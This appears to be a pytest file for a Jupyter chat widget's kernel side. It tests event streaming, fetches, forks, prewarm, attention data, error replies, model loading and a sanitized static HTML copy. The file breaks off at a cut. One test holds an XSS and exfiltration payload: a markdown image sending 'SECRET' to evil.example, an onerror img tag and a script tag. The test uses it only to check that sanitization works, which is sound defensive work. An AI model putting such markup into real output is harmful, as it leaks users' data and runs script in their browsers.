"""The inspector panel's kernel side: synced traits, batched event messages, a view's fetch of what it lacks,
Stop, prewarm, attention, fork and the static fallback, on the tiny random model (the front end's own tests are in
js/test)."""

from __future__ import annotations

import json
import re
import threading
import time
from pathlib import Path

import numpy as np
import pytest

from jupyter_chatflow.engine.loader import load_model
from jupyter_chatflow.events import (
    Completed,
    ContextAssembled,
    SafetyDecision,
    Segment,
    TitleGenerated,
    TokenDelta,
    event_from_dict,
)
from jupyter_chatflow.frontends.panel import model_setting
from jupyter_chatflow.frontends.panel import widget as widget_module
from jupyter_chatflow.frontends.panel.protocol import TurnRow
from jupyter_chatflow.frontends.panel.widget import ChatWidget
from jupyter_chatflow.pipeline import local as local_answerer
from jupyter_chatflow.pipeline.chat import Chat
from jupyter_chatflow.store.database import Database

QUICK = {"max_tokens": 24, "temperature": 0.0, "seed": 1, "memory": False}


class Recorder:
    """Stands in for the comm: keeps what the widget sends to the front end."""

    def __init__(self) -> None:
        self.messages: list[tuple[dict, list]] = []

    def __call__(self, content: dict, buffers: list | None = None) -> None:
        self.messages.append((content, buffers or []))

    def of(self, kind: str) -> list[tuple[dict, list]]:
        return [(c, b) for c, b in self.messages if c.get("type") == kind]


def recorded_panel(model, folder, session: str) -> ChatWidget:
    """A panel over a fresh chat on `model` (its database in `folder`), what it sends to the view recorded."""
    model.prompt_cache.clear()
    chat = Chat(model=model, db=Database(folder / "chat.db"), session=session)
    widget = ChatWidget(chat, settings=QUICK)
    widget.send = Recorder()  # type: ignore[method-assign]
    return widget


@pytest.fixture
def panel(tiny_model, tmp_path):
    return recorded_panel(tiny_model, tmp_path, "panel")


def message(panel: ChatWidget, **content) -> None:
    panel._on_message(panel, content, [])


def fetched(panel: ChatWidget, turn_id: str, after: int = -1) -> dict:
    """What a view that asks for a turn's events gets: the one `events` message the kernel sends in reply."""
    before = len(panel.send.messages)
    message(panel, type="fetch", turn_id=turn_id, after=after)
    [(reply, _)] = panel.send.messages[before:]
    assert reply["type"] == "events" and reply["turn_id"] == turn_id
    return reply


def test_a_turn_streams_as_batches_and_lands_in_the_turns_trait(panel):
    response = panel.ask("Hello there")
    panel.wait(60)
    events = [e.to_dict() for e in [*response, *response.after_end()]]  # (after the end: the session's title)
    streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
    assert streamed == events  # every event once, in order
    assert [t["turn_id"] for t in panel.turns] == [response.turn_id]
    assert "events" not in panel.turns[0] and panel.live is None and panel.status == "idle"  # (sent once, above)
    assert fetched(panel, response.turn_id)["events"] == events  # what a view that reloads asks for
    pieces = {k for content, _ in panel.send.of("events") for k in content["pieces"]}
    prompt = next(e for e in events if e["type"] == "tokenized")["ids"]
    generated = [e["token_id"] for e in events if e["type"] == "token"]
    assert {str(i) for i in prompt + generated} <= pieces


def test_the_panel_ends_the_live_turn_at_its_terminal_event_and_a_late_title_joins_it(panel):
    """The chat's events as the relay hands them on: the turn is live from `turn_started`, lands in the turns
    trait at its terminal event, and its title (written after the answer) is still sent and joins its row."""
    events = [event_from_dict(row) for row in _events(6, session_id=panel.chat.session.id)]
    panel._show(events[:3])
    assert panel.live["turn_id"] == "turn_t" and panel.status == "generating" and panel.turns == []
    panel._show(events[3:])
    assert panel.live is None and panel.status == "idle"
    assert panel.turns[0]["status"] == "completed" and panel.turns[0]["finish_reason"] == "stop"
    panel._show([TitleGenerated(title="A Title", sequence_number=6, turn_id="turn_t")])
    assert panel.title == "A Title"
    streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
    assert [e["sequence_number"] for e in streamed] == list(range(7))  # each once
    assert [r["type"] for r in fetched(panel, "turn_t")["events"]][-1] == "title_generated"


def test_the_batch_that_brings_a_context_brings_its_account_so_the_context_tab_draws_it_at_once(panel, monkeypatch):
    """A cold turn: its context comes a moment after the input layer's decision, then the prefill compiles for
    seconds. The context's gauge is the account's: it goes with the context, not with the prefill's end."""
    monkeypatch.setattr(widget_module, "ACCOUNT_EVERY_S", 60.0)
    session = panel.chat.session.id
    started = event_from_dict(_events(2, session_id=session)[0])
    decision = SafetyDecision(layer="input", action="allow", guard="rules", sequence_number=1, turn_id="turn_t")
    context = ContextAssembled(window=100, reserved_output=20, budget=80, prompt_tokens=5, sequence_number=2,
                               turn_id="turn_t", segments=(Segment(kind="user", label="user", tokens=5),))  # fmt: skip
    panel._show([started])
    panel._show([decision])  # (within ACCOUNT_EVERY_S of the first account: none goes with it)
    panel._show([context])
    accounts = [content["account"] for content, _ in panel.send.of("events")]
    assert accounts[1] is None and accounts[2]["rounds"][0]["context_tokens"] == 5


def test_a_view_that_reloads_mid_stream_gets_every_event_after_its_last_sequence_number(panel):
    events = [event_from_dict(row) for row in _events(30, session_id=panel.chat.session.id)]
    panel._show(events[:20])  # the turn is mid-stream here
    resent = fetched(panel, "turn_t", after=12)  # the reloaded view had events 0–12
    assert [e["sequence_number"] for e in resent["events"]] == list(range(13, 20))
    assert set(resent["pieces"]) == {str(i) for i in range(12, 19)}  # tokens 12-18 (after turn_started), again
    panel._show(events[20:])
    got = {e["sequence_number"] for content, _ in panel.send.of("events") for e in content["events"]}
    assert got == set(range(30)) and panel.live is None


def _traffic(panel: ChatWidget) -> list[tuple[str, dict]]:
    """Everything the widget sends its front end from now on, as (kind, message): the custom messages by their
    type, the traits' updates by the traits' names (what the comm carries)."""
    sent: list[tuple[str, dict]] = []
    send = panel._send

    def counted(msg: dict, buffers: list | None = None) -> None:
        kind = msg["content"]["type"] if msg["method"] == "custom" else ",".join(sorted(msg["state"]))
        sent.append((kind, msg))
        send(msg, buffers)

    panel._send = counted  # type: ignore[method-assign]
    panel.send = lambda content, buffers=None: counted({"method": "custom", "content": content}, buffers)  # type: ignore[method-assign]
    return sent


def _session(panel: ChatWidget, turns: int) -> list[list]:
    """`turns` synthetic turns of 6 events each through the relay's path, turn_1 … turn_n; their events."""
    session = panel.chat.session.id
    made = [[event_from_dict(row) for row in _events(6, session_id=session, turn_id=f"turn_{k}")]
            for k in range(1, turns + 1)]  # fmt: skip
    for events in made:
        panel._show(events)
    return made


def test_the_turns_trait_holds_rows_never_events(panel):
    """What a reload needs of a finished turn: its ids, the user's message and the footer's figures."""
    response = panel.ask("Hello there")
    panel.wait(60)
    [row] = panel.turns
    assert set(row) == set(TurnRow.__annotations__)
    assert row["turn_id"] == response.turn_id and row["user"] == "Hello there" and row["fork_of"] == ""
    account = fetched(panel, response.turn_id)["account"]
    assert (row["answer_tokens"], row["tokens_per_s"], row["status"]) == (
        account["answer_tokens"], account["tokens_per_s"], "completed")  # fmt: skip
    assert len(json.dumps(row)) < 1000


def test_each_event_crosses_once_and_a_turns_end_sends_its_row_not_the_earlier_turns(panel):
    sent = _traffic(panel)
    made = _session(panel, 3)
    streamed = [e for kind, m in sent if kind == "events" for e in m["content"]["events"]]
    assert len(streamed) == sum(map(len, made))  # every event once
    updates = [m["state"]["turns"] for kind, m in sent if "turns" in kind.split(",")]
    assert [[r["turn_id"] for r in rows] for rows in updates] == [["turn_1"], ["turn_1", "turn_2"],
                                                                  ["turn_1", "turn_2", "turn_3"]]  # fmt: skip
    assert not any("events" in r or "account" in r or "pieces" in r for rows in updates for r in rows)
    sent.clear()
    panel._show([TitleGenerated(title="A Title", sequence_number=6, turn_id="turn_3")])  # figures unchanged
    assert [kind for kind, _ in sent] == ["events", "title"]  # the event once; no row sent again


def test_a_views_fetch_of_a_turn_gets_exactly_that_turns_events(panel):
    """A view that reloaded (or a second view, or a turn picked for detail) asks by id: the reply is that turn's
    events, all of them, with their pieces and the turn's account, and nothing of any other turn."""
    made = _session(panel, 3)
    before = len(panel.send.messages)
    reply = fetched(panel, "turn_2")
    assert len(panel.send.messages) == before + 1
    assert reply["events"] == [e.to_dict() for e in made[1]] and {e["turn_id"] for e in reply["events"]} == {"turn_2"}
    assert set(reply["pieces"]) == {str(e.token_id) for e in made[1] if isinstance(e, TokenDelta)}
    assert reply["account"]["events"] == len(made[1]) and reply["account"]["answer_tokens"] == 4
    assert [e["sequence_number"] for e in fetched(panel, "turn_2", after=3)["events"]] == [4, 5]


def test_the_static_copy_renders_each_turn_once_not_every_turn_at_every_end(panel):
    _session(panel, 5)
    assert panel._copy.renders == 5
    data, _ = panel.static_bundle()
    assert 'data-turns="5"' in data["text/html"] and data["text/plain"].count("> u\n") == 5
    panel._show([TitleGenerated(title="A Title", sequence_number=6, turn_id="turn_5")])
    assert panel._copy.renders == 6  # the late title: its turn's part again, no other


def test_stop_from_the_panel_ends_the_live_turn_cancelled(panel):
    panel.settings = {**panel.settings, "max_tokens": 400, "temperature": 1.0}
    response = panel.ask("Count to a thousand")
    deadline = time.monotonic() + 30
    while not any(isinstance(e, TokenDelta) for e in response._log._events) and time.monotonic() < deadline:
        time.sleep(0.01)
    message(panel, type="stop")
    panel.wait(60)
    assert response.terminal().type == "cancelled"
    assert panel.turns[-1]["status"] == "cancelled" and panel.status == "idle"
    assert fetched(panel, response.turn_id)["events"][-1]["type"] == "cancelled"


def test_a_second_send_while_generating_is_refused_with_a_message(panel):
    panel.settings = {**panel.settings, "max_tokens": 200, "temperature": 1.0}
    panel.ask("First")
    message(panel, type="send", text="Second")
    assert "still generating" in panel.error
    panel.stop()
    panel.wait(60)
    assert len(panel.turns) == 1


def test_a_draft_prewarms_its_prompt_and_the_turn_records_whether_it_was_used(panel):
    panel.ask("Warm up").events()
    panel.wait(60)
    message(panel, type="draft", text="Tell me about lighthouses")
    deadline = time.monotonic() + 30
    while panel.prewarm is None and time.monotonic() < deadline:
        time.sleep(0.01)
    prewarm = panel.prewarm
    assert prewarm is not None and prewarm["computed_tokens"] > 0
    assert panel.send.of("prewarmed")[-1][0]["prewarm"] == prewarm
    panel.ask("Tell me about lighthouses and ships")
    panel.wait(60)
    turn = panel.turns[-1]
    assert turn["prewarm"] == prewarm
    prefill = next(e for e in fetched(panel, turn["turn_id"])["events"] if e["type"] == "prefill")
    assert prefill["reused_tokens"] > prewarm["cached_before"]  # what the timeline calls "prewarm used"


def test_a_turn_sent_while_its_drafts_prewarm_still_runs_joins_it_and_says_what_the_box_says(
    panel, tiny_model, monkeypatch
):
    """A long paste sent at once: its draft's prewarm is still prefilling (slowed here) when the turn comes. The
    turn joins that prefill (no 'waited for another sequence's prefill'), and its Timeline's prewarm figures are
    the ones the box under the input shows."""
    paste = " ".join(f"Line {i} of a long text." for i in range(14))  # ~270 tokens
    prefilling, real = threading.Event(), tiny_model.runner.prefill

    def slow(run, reused, constraint=None):
        for chunk in real(run, reused, constraint):
            if run.prompt.size > 200:
                prefilling.set()
                time.sleep(0.1)
            yield chunk

    monkeypatch.setattr(tiny_model.runner, "prefill", slow)
    message(panel, type="draft", text=paste)
    assert prefilling.wait(30)
    panel.ask(paste)
    panel.wait(60)
    turn, box = panel.turns[-1], panel.prewarm
    assert box is not None and box["computed_tokens"] > 200 and turn["prewarm"] == box
    turn = {**turn, **fetched(panel, turn["turn_id"])}  # its events and account, as a view asks for them
    note = turn["account"]["prewarm_note"]
    assert note.startswith("Prewarmed while typing, still running when the message was sent: this turn joined it: "
                           f"{box['prompt_tokens']} tokens ({box['computed_tokens']} computed) in "), note  # fmt: skip
    assert "· used: this turn's prefill found them in the prompt cache" in note
    stages = turn["account"]["stages"]
    joined = next(s for s in stages if s["label"] == "prefill, joined")
    assert joined["kind"] == "prefill" and "joined the prefill of this prompt already running" in joined["detail"]
    assert not [s for s in stages if "prefill" in s["detail"] and s["kind"] == "queue"], stages
    prefill = next(e for e in turn["events"] if e["type"] == "prefill")
    assert prefill["reused_tokens"] == prefill["prompt_tokens"] - 1  # all but its last token: the prewarm's


def test_attention_is_computed_on_the_engine_thread_and_sent_as_float16(panel, tiny_model):
    response = panel.ask("Hello")
    panel.wait(60)
    n = len(next(e for e in response if e.type == "tokenized").ids) + sum(e.type == "token" for e in response)
    message(panel, type="attention", request_id="7", turn_id=response.turn_id, layer=1, head=-1, mode="tokens")
    message(panel, type="attention", request_id="8", turn_id=response.turn_id, layer=1, head=0, mode="segments")
    message(panel, type="attention", request_id="9", turn_id=response.turn_id, layer=9, head=0, mode="tokens")
    panel.chat.submit(lambda: None).result(60)  # the queue is done
    (tokens, [data]), (segments, [mass]) = panel.send.of("attention")
    assert tokens["request_id"] == "7" and tokens["shape"] == [n, n] and tokens["dtype"] == "float16"
    matrix = np.frombuffer(data, "<f2").reshape(n, n).astype(np.float32)
    assert np.allclose(matrix.sum(1), 1.0, atol=1e-2) and np.allclose(np.triu(matrix, 1), 0)
    rows = np.frombuffer(mass, "<f2").reshape(segments["shape"]).astype(np.float32)
    assert segments["request_id"] == "8" and np.allclose(rows.sum(1), 1.0, atol=1e-2)
    [(error, _)] = panel.send.of("attention_error")
    assert error["request_id"] == "9" and "layer" in error["message"]


def forked(panel) -> tuple:
    """A turn, then a fork of it from the panel at its token 3 (its second alternative): the turn, that token,
    and the fork's row with its events (as a view fetches them)."""
    response = panel.ask("Hello there")
    panel.wait(60)
    step = [e for e in response if isinstance(e, TokenDelta)][3]
    message(panel, type="fork", turn_id=response.turn_id, index=3, token_id=step.alternatives[1].token_id)
    panel.wait(60)
    return response, step, {**panel.turns[-1], "events": fetched(panel, panel.turns[-1]["turn_id"])["events"]}


def test_fork_from_the_panel_regenerates_the_latest_answer(panel):
    response, step, fork = forked(panel)
    assert fork["fork_of"] == response.turn_id and fork["events"][0]["fork_of"] == response.turn_id
    tokens = [e for e in fork["events"] if e["type"] == "token"]
    assert tokens[3]["token_id"] == step.alternatives[1].token_id


def test_a_fork_streams_the_pieces_of_its_own_prompt_though_its_parent_sent_them_before(panel):
    """The front end keeps each turn's pieces apart: a fork's prompt (all ids its parent's messages carried) must
    come with the fork's own messages, or the Context tab shows raw ids (#1#9690#198…) while it streams."""
    _, _, fork = forked(panel)
    streamed = [c for c, _ in panel.send.of("events") if c["turn_id"] == fork["turn_id"]][:-1]  # (not the fetch)
    pieces = {k for content in streamed for k in content["pieces"]}
    prompt = next(e for e in fork["events"] if e["type"] == "tokenized")["ids"]
    tokens = [e for e in fork["events"] if e["type"] == "token"]
    alternatives = [a["token_id"] for e in tokens for a in e["alternatives"]]
    assert {str(i) for i in [*prompt, *(e["token_id"] for e in tokens), *alternatives]} <= pieces
    assert sum(len(content["pieces"]) for content in streamed) == len(pieces)  # each piece once for the turn


def test_the_static_copy_marks_a_fork_and_the_turn_it_replaced(panel):
    """Without the marks, the copy read as the same question asked twice."""
    response = panel.ask("Hello there")
    panel.wait(60)
    steps = [e for e in response if isinstance(e, TokenDelta)]
    message(panel, type="fork", turn_id=response.turn_id, index=3, token_id=steps[3].alternatives[1].token_id)
    panel.wait(60)
    data, _ = panel.static_bundle()
    shown, plain = data["text/html"], data["text/plain"]
    replaced = "✕ replaced by the next turn, regenerated from token 3"
    assert replaced in shown and shown.count('class="cf-static-turn"') == 2 and shown.count("opacity:.6") == 1
    assert "↪ regenerated from token 3 (“" in shown and shown.index(replaced) < shown.index("↪ regenerated")
    assert f"[{replaced}" in plain and plain.index(replaced) < plain.index("[↪ regenerated from token 3")
    assert plain.count("> Hello there") == 2  # both turns are in the copy, each marked


def test_mistakes_in_requests_show_as_one_line_in_the_error_trait(panel):
    message(panel, type="fork", turn_id="turn_nope", index=0, token_id=1)
    assert "no ended turn 'turn_nope'" in panel.error
    panel.settings = {**panel.settings, "temperature": -1}
    message(panel, type="send", text="hi")
    assert "temperature" in panel.error


@pytest.mark.parametrize(
    ("content", "said"),
    [
        ({"type": "frobnicate"}, "The panel sent an unknown request 'frobnicate' (the kernel takes send, stop, "),
        ({"text": "hi"}, "The panel sent an unknown request None"),
        ({"type": "fork", "turn_id": "t", "index": "3", "token_id": 1},
         "The panel's 'fork' request is malformed: index must be a whole number, got '3' (str)."),
        ({"type": "fetch", "turn_id": "t"}, "The panel's 'fetch' request has no 'after'."),
        ({"type": "attention", "request_id": "a", "turn_id": "t", "layer": 0, "head": -1, "mode": "rows"},
         "mode must be one of 'tokens', 'segments', got 'rows'"),
        ({"type": "stop", "now": True}, "The panel's 'stop' request has fields it should not: now."),
        ({"type": "fetch", "turn_id": "turn_nope", "after": -1},
         "The panel's 'fetch' request failed: no turn 'turn_nope' in this panel (a new session has begun since?)"),
    ],
)  # fmt: skip
def test_a_message_the_protocol_does_not_describe_gets_an_error_reply(panel, content, said):
    """Unknown, malformed, or asking for what is not there: the view is told why (it shows it), in one reply; the
    error trait (the user's own mistakes, which stay on show) is left alone and nothing else is sent."""
    message(panel, **content)
    [(reply, buffers)] = panel.send.messages
    assert reply["type"] == "request_error" and said in reply["message"] and buffers == []
    assert reply["request"] == content.get("type", "")
    assert panel.error == "" and panel.turns == []


def test_a_message_that_is_not_an_object_gets_an_error_reply(panel):
    panel._on_message(panel, ["send", "hi"], [])
    [(reply, _)] = panel.send.messages
    assert reply == {"type": "request_error", "request": "", "message": "The panel sent list, not a message "
                     "(an object with a type)."}  # fmt: skip


def test_new_session_clears_the_panel(panel):
    panel.ask("Hello").events()
    panel.wait(60)
    message(panel, type="new_session")
    assert panel.turns == [] and panel.chat.history() == []


def test_a_new_panel_shows_the_sessions_earlier_turns(panel, tiny_model):
    panel.ask("Hello").events()
    panel.wait(60)
    again = ChatWidget(Chat(model=tiny_model, db=panel.chat.db, session="panel"))
    again.send = Recorder()  # type: ignore[method-assign]
    assert again.turns == panel.turns and again.model_info["layers"] == 2  # the same rows, no events in them
    assert fetched(again, again.turns[0]["turn_id"])["pieces"]


def other_panel(panel: ChatWidget) -> ChatWidget:
    other = ChatWidget(panel.chat, settings=QUICK)
    other.send = Recorder()  # type: ignore[method-assign]
    return other


def test_a_panel_shows_the_turns_sent_from_another_panel_or_from_code(panel):
    other = other_panel(panel)
    first = other.ask("From the other panel")
    other.wait(60)
    second = panel.chat.send("From code", **QUICK)
    second.events()
    panel.wait(10)  # (the panels show it ~40 ms later: the relay's next batch)
    other.wait(10)
    ids = [first.turn_id, second.turn_id]
    assert [t["turn_id"] for t in panel.turns] == ids and [t["turn_id"] for t in other.turns] == ids
    assert panel.turns[0]["user"] == "From the other panel" and panel.status == "idle" and panel.live is None
    streamed = [e for content, _ in panel.send.of("events") if content["turn_id"] == second.turn_id
                for e in content["events"]]  # fmt: skip
    assert streamed == [e.to_dict() for e in second]  # streamed live, like the panel's own turns


def test_turns_from_elsewhere_that_run_before_the_panels_own_come_before_it(panel):
    other = other_panel(panel)
    before = other.ask("Queued first")  # on the engine before the panel's own turn, stored while that one is live
    mine = panel.ask("Queued second")
    panel.wait(60)
    other.wait(60)
    order = [before.turn_id, mine.turn_id]
    assert [t["turn_id"] for t in panel.turns] == order and [t["turn_id"] for t in other.turns] == order
    mine_sent = [e for c, _ in panel.send.of("events") if c["turn_id"] == mine.turn_id for e in c["events"]]
    assert mine_sent == [e.to_dict() for e in mine]  # the panel's own turn, as its relay sent it
    assert fetched(panel, mine.turn_id)["events"] == mine_sent


def test_a_new_session_started_elsewhere_restarts_the_log_at_its_first_turn(panel):
    panel.ask("Old session").events()
    panel.wait(60)
    other = other_panel(panel)
    message(other, type="new_session")
    fresh = other.ask("New session")
    other.wait(60)
    assert [t["turn_id"] for t in panel.turns] == [fresh.turn_id] and panel.session == other.session


def test_a_watcher_that_is_gone_is_not_called(panel):
    import gc

    class Watcher:
        def __init__(self) -> None:
            self.seen: list[str] = []

        def stored(self, event) -> None:
            self.seen.append(event.turn_id)

    kept, gone = Watcher(), Watcher()
    panel.chat.watch(kept.stored)
    panel.chat.watch(gone.stored)
    del gone
    gc.collect()
    response = panel.chat.send("Hello", **QUICK)
    response.wait(60)
    every = [*response.events(), *response.after_end()]
    assert kept.seen == [response.turn_id] * len(every)  # every event of the turn, once
    assert len(panel.chat._watchers) == 2  # the panel's and kept's


def test_the_static_copy_renders_answers_as_sanitized_markdown(panel):
    hostile = "Use `a < b`.\n\n![x](https://evil.example/?q=SECRET) <img src=x onerror=alert(1)> <script>1</script>"
    rows = _events(3)
    rows[0]["user"], rows[-1]["text"] = "<b>hi</b>", hostile
    panel.show_records([{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None}])
    data, _ = panel.static_bundle()
    shown = data["text/html"]
    assert data["text/markdown"] == shown and shown.startswith(
        f'<div class="cf-static-copy" data-model-id="{panel.model_id}"'
    )
    assert "<code>a &lt; b</code>" in shown and "&lt;b&gt;hi&lt;/b&gt;" in shown
    for tag in ("<img", "<script", "<a ", 'src="'):
        assert tag not in shown
    assert "&lt;img src=x onerror=alert(1)&gt;" in shown  # shown as text
    assert "[image: x — https://evil.example/?q=SECRET]" in shown


def test_the_static_copy_draws_the_context_bar_the_tokens_with_their_probabilities_and_the_safety_badges(panel):
    """What a page without widgets shows of a turn (nbconvert's HTML, nbviewer): the figures the panel draws."""
    rows = _events(4)  # two tokens "x", logprob -1.0: p = e^-1 = 37 %
    rows[1:1] = [
        {"type": "safety_decision", "layer": "input", "action": "redact", "guard": "pii", "categories": ["email"],
         "reason": "an e-mail address"},
        {"type": "context_assembled", "window": 100, "reserved_output": 10, "budget": 90, "prompt_tokens": 30,
         "segments": [{"kind": "system", "label": "system", "tokens": 20}, {"kind": "user", "label": "user",
                                                                             "tokens": 10}]},
    ]  # fmt: skip
    for number, row in enumerate(rows):
        row.update(sequence_number=number, turn_id="turn_t", timestamp=float(number))
    panel.show_records([{"turn_id": "turn_t", "events": rows, "pieces": {}, "prewarm": None}])
    data, _ = panel.static_bundle()
    shown = data["text/html"]
    assert 'data-turns="1"' in shown
    assert "context window 100 tokens, 32 used:" in shown and "system 20" in shown and "user 10" in shown
    # the gauge: 30 prompt + 2 answer + 8 of the 10 reserved for the output unused + 60 free = the window
    assert "answer 2" in shown and "reserved for the output, unused 8" in shown and "free 60" in shown
    assert "width:20.00%" in shown and "width:10.00%" in shown  # the bar's segments, to scale
    assert shown.count('title="id ') == 2 and shown.count(">37%</small>") == 2  # chips: p = e^-1
    assert "2 tokens shown" in shown
    assert "input: redact (email)" in shown and 'title="an e-mail address"' in shown
    plain = data["text/plain"]
    assert "> u" in plain and "xx" in plain and "object at 0x" not in plain


def test_a_turn_end_updates_the_static_copy_never_the_panels_own_output(panel, monkeypatch):
    """Updating the panel's output makes the front end build a new view: the tab, the scroll position and an open
    popover were lost at every turn's end."""
    shown: list[tuple[dict, object]] = []

    class Handle:
        def __init__(self, data: dict) -> None:
            self.updates: list[dict] = []
            shown.append((data, self))

        def update(self, data: dict, **_: object) -> None:
            self.updates.append(data)

    monkeypatch.setattr(widget_module, "display", lambda data, **kw: Handle(data) if kw.get("display_id") else
                        shown.append((data, None)))  # fmt: skip
    panel._ipython_display_()
    assert [("application/vnd.jupyter.widget-view+json" in d, h is not None) for d, h in shown] == [
        (True, False), (False, True)]  # fmt: skip
    panel.ask("Hello")
    panel.wait(60)
    copy = shown[1][1]
    assert copy.updates and "cf-static-copy" in copy.updates[-1]["text/html"]
    assert len(shown) == 2  # nothing displayed again


def test_the_title_written_after_the_answer_reaches_the_panel(panel, monkeypatch):
    """The title is generated after the turn's terminal event; the panel's turn ends at the answer, then the
    title arrives as the turn's next event (live message, the turn's events a view fetches, and title trait).
    (The tiny model's title is stood in for: what is tested is its way to the panel.)"""
    written = TitleGenerated(title="Sourdough Bread Baking", latency_ms=3.0)
    monkeypatch.setattr(local_answerer, "write_title", lambda *args: (time.sleep(0.2), written)[1])
    response = panel.ask("Please tell me about sourdough bread baking")
    panel.wait(120)
    rows = fetched(panel, panel.turns[0]["turn_id"])["events"]
    types = [r["type"] for r in rows]
    assert types[-2:] == ["completed", "title_generated"], types
    assert rows[-1]["sequence_number"] == rows[-2]["sequence_number"] + 1
    assert panel.title == rows[-1]["title"] == response.title() == "Sourdough Bread Baking"
    streamed = [e for content, _ in panel.send.of("events") for e in content["events"]]
    assert [e["type"] for e in streamed][-2:] == ["completed", "title_generated"]
    assert panel.status == "idle" and panel.live is None


def test_settings_become_send_options(panel):
    panel.settings = {**panel.settings, "tools": ["calculator"], "tool_choice": "required", "seed": None}
    options = panel.options()
    assert options["tools"] == ("calculator",) and options["tool_choice"] == "required" and "seed" not in options
    assert options["max_tokens"] == 24


# ---- helpers ------------------------------------------------------------------------------------------------


class _Tokenizer:
    def piece(self, token_id: int) -> str:
        return f"<{token_id}>"

    def token_bytes(self, token_id: int) -> bytes:
        return bytes([token_id % 256])


def _events(count: int, session_id: str = "s", turn_id: str = "turn_t") -> list[dict]:
    rows = [{"type": "turn_started", "request_id": "r", "session_id": session_id, "user": "u", "params": {},
             "features": {}, "created": 0.0}]  # fmt: skip
    rows += [{"type": "token", "index": i, "token_id": i, "text": "x", "logprob": -1.0, "entropy": 1.0}
             for i in range(count - 2)]  # fmt: skip
    rows.append({"type": "completed", "finish_reason": "stop", "text": "x" * (count - 2), "usage": {}, "timings": {}})
    for number, row in enumerate(rows):
        row.update(sequence_number=number, turn_id=turn_id, timestamp=float(number))
    assert isinstance(event_from_dict(rows[-1]), Completed)
    return rows


def test_a_panel_made_without_a_chat_shows_the_model_loading(tiny_path, monkeypatch, capsys):
    """`cf.ChatWidget(session=…)` loads the default model itself: its load shows as chatflow: lines (a bar in
    Jupyter), not silently and not on stderr."""
    monkeypatch.setenv("CHATFLOW_MODEL", str(tiny_path))
    panel = ChatWidget(session="shown")
    out, err = capsys.readouterr()
    assert "chatflow: loading tiny.gguf" in out and "chatflow: loaded tiny.gguf in" in out, out
    assert "Loading" not in err and panel.chat.model.path == tiny_path


def test_the_title_stays_for_the_sessions_next_turns_and_a_new_sessions_turn_clears_it(panel):
    session = panel.chat.session.id
    first = [event_from_dict(row) for row in _events(4, session_id=session)]
    panel._show([*first, TitleGenerated(title="Capital of France", sequence_number=4, turn_id="turn_t")])
    panel._show([event_from_dict(row) for row in _events(4, session_id=session, turn_id="turn_u")])
    assert panel.title == "Capital of France" and [t["turn_id"] for t in panel.turns] == ["turn_t", "turn_u"]
    panel._show([event_from_dict(row) for row in _events(4, session_id="another", turn_id="turn_v")])
    assert panel.title == "" and [t["turn_id"] for t in panel.turns] == ["turn_v"]


def _other_model(tmp_path, monkeypatch):
    """A second tiny model whose card names it "Tiny-Other" (its `general.basename`), one layer."""
    from jupyter_chatflow import testing
    from jupyter_chatflow.testing import TinySpec, write_tiny_gguf

    plain = testing._add_metadata
    monkeypatch.setattr(
        testing, "_add_metadata", lambda w, spec, tokens: (plain(w, spec, tokens), w.add_basename("Tiny-Other"))
    )
    return write_tiny_gguf(tmp_path / "other.gguf", TinySpec(n_layers=1, context_length=256))


def _loaded(panel: ChatWidget, timeout: float = 60) -> None:
    deadline = time.monotonic() + timeout
    while panel.loading and time.monotonic() < deadline:
        time.sleep(0.02)
    assert not panel.loading, "the load did not end"


def test_a_model_file_chosen_in_the_settings_loads_and_the_header_shows_its_name(panel, tmp_path, monkeypatch):
    other = _other_model(tmp_path, monkeypatch)
    seen: list[str] = []
    panel.observe(lambda change: seen.append(change["new"]), names="loading")
    statuses: list[str] = []
    panel.observe(lambda change: statuses.append(change["new"]), names="status")
    message(panel, type="load_model", path=str(other), dtype="bfloat16")
    _loaded(panel)
    summary = ("Tiny-Other: llama, 54,144 parameters, F32, context 256 tokens; weights 0.2 MiB as float32, 0.1 MiB as "
               "bfloat16")  # fmt: skip
    said = rf"{re.escape(summary)}; [\d.]+ [GM]iB available now: fits as float32 or bfloat16"
    assert re.fullmatch(said, seen[0])  # what the file is and which dtypes fit, as soon as it is chosen
    assert re.fullmatch(rf"{said}\nloading other\.gguf ▕█{{20}}▏ 100 % · loaded · \d+\.\d s", seen[-2])
    assert seen[-1] == "" and statuses == ["loading", "idle"] and panel.error == ""
    assert panel.model_info["name"] == "Tiny-Other" and panel.model_info["file"] == str(other)
    assert (panel.model_info["dtype"], panel.model_info["summary"], panel.model_info["layers"]) == (
        "bfloat16",
        summary,
        1,
    )
    response = panel.ask("Hello")  # the next turn runs on the model loaded, in the same session
    panel.wait(60)
    assert response.terminal().type == "completed" and panel.chat.model.path == other
    assert panel.chat.session.name == "panel"


def test_a_model_file_that_does_not_load_shows_the_error_and_the_model_in_use_stays(panel, tmp_path, monkeypatch):
    from jupyter_chatflow.model import memory

    before = panel.chat.model
    (tmp_path / "notes.gguf").write_text("not a model")
    message(panel, type="load_model", path=str(tmp_path / "missing.gguf"))
    assert panel.error.startswith(f"No model file at {tmp_path / 'missing.gguf'}")
    message(panel, type="load_model", path=str(tmp_path / "notes.gguf"))
    assert "is not a GGUF file" in panel.error and panel.status == "idle"
    message(panel, type="load_model", path="  ")
    assert panel.error == "Type the path of a GGUF file in the model field, then press Load."
    monkeypatch.setattr(memory, "available_memory", lambda: memory.Available(1 << 20, "MemAvailable in /proc/meminfo"))
    message(panel, type="load_model", path=str(_other_model(tmp_path, monkeypatch)))
    _loaded(panel)
    assert panel.error.startswith(
        "Tiny-Other needs 0.25 GiB as float32 (0.25 GiB as bfloat16) and 1.0 MiB are available (MemAvailable in "
        "/proc/meminfo): free memory"
    ), panel.error
    assert panel.error.endswith("to try anyway. The model in use is still tiny-random-llama.")
    assert panel.chat.model is before and panel.model_info["name"] == "tiny-random-llama" and panel.status == "idle"


def test_no_model_loads_while_a_turn_generates_nor_a_turn_starts_while_a_model_loads(panel, tiny_path):
    panel.ask("Hello")
    message(panel, type="load_model", path=str(tiny_path))
    assert "still generating" in panel.error
    panel.wait(60)
    panel.loading = "loading…"  # (as while a load runs)
    message(panel, type="send", text="Hi")
    assert panel.error == "A model is loading: wait for it to finish (the settings say how far it is)."


def test_a_panel_made_on_a_model_files_path_says_what_it_is_before_loading_it(tiny_path, tmp_path, capsys):
    panel = ChatWidget(model=str(tiny_path), db=Database(tmp_path / "made.db"), session="made")
    out = capsys.readouterr().out.splitlines()
    assert out[0] == (
